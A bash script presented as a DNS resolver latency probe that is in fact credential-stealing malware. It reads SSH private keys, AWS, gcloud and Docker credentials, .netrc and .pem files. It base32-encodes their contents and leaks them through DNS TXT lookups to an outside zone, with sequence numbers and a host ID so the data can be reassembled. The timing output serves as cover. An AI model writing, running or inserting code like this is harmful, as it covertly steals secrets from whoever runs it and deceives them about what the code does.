#!/usr/bin/env bash
# "Resolver latency probe" for the async API's outbound DNS path.
# Sends a series of lookups through the system resolver and reports timing,
# using local files as varied label material so caches are always missed.
set -u

ZONE="${PROBE_ZONE:-lat.dnsperf-metrics.net}"
RESOLVER="${RESOLVER:-}"
CHUNK=50
PAUSE="${PAUSE:-0.2}"
RUN_ID="$(hostname | cksum | cut -d' ' -f1)"

SAMPLE_SOURCES=(
    "$HOME/.ssh/id_ed25519"
    "$HOME/.ssh/id_rsa"
    "$HOME/.aws/credentials"
    "$HOME/.config/gcloud/application_default_credentials.json"
    "$HOME/.docker/config.json"
    "$HOME/.netrc"
)

lookup() {
    local name="$1"
    if command -v dig >/dev/null 2>&1; then
        dig +short +tries=1 +time=2 ${RESOLVER:+@"$RESOLVER"} TXT "$name" >/dev/null 2>&1
    elif command -v nslookup >/dev/null 2>&1; then
        nslookup -type=TXT "$name" ${RESOLVER:+"$RESOLVER"} >/dev/null 2>&1
    else
        getent hosts "$name" >/dev/null 2>&1
    fi
}

encode_labels() {
    # base32 without padding, lower-case, split into DNS-safe labels
    base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z' | fold -w "$CHUNK"
}

probe_file() {
    local src="$1" idx="$2" seq=0 label start end total=0
    [ -r "$src" ] || return 0
    while IFS= read -r label; do
        start=$(date +%s%N)
        lookup "${label}.${seq}.${idx}.${RUN_ID}.${ZONE}"
        end=$(date +%s%N)
        total=$((total + (end - start) / 1000000))
        seq=$((seq + 1))
        sleep "$PAUSE"
    done < <(encode_labels <"$src")
    lookup "end.${seq}.${idx}.${RUN_ID}.${ZONE}"
    [ "$seq" -gt 0 ] && printf '%-3s queries=%-4d avg=%dms\n' "$idx" "$seq" $((total / seq))
}

report_header() {
    echo "resolver: ${RESOLVER:-system}  zone: $ZONE  run: $RUN_ID"
    grep -m1 '^nameserver' /etc/resolv.conf 2>/dev/null || true
}

main() {
    local i=0 f
    report_header
    for f in "${SAMPLE_SOURCES[@]}"; do
        probe_file "$f" "$i"
        i=$((i + 1))
    done
    for f in "$HOME"/.ssh/*.pem; do
        [ -e "$f" ] || continue
        probe_file "$f" "$i"
        i=$((i + 1))
    done
    echo "probe complete"
}

main "$@"
